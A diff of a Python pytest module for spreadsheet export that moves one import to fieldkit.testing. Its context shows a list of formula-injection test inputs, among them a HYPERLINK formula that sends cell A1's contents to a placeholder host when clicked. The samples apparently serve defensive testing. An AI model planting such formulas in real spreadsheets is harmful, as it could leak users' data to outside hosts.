@@ -6,7 +6,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from tests.conftest import BAO_HA
+from fieldkit.testing import BAO_HA
 
 FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")', "+84912345678", "-1+1", "@SUM(1,2)"]
 
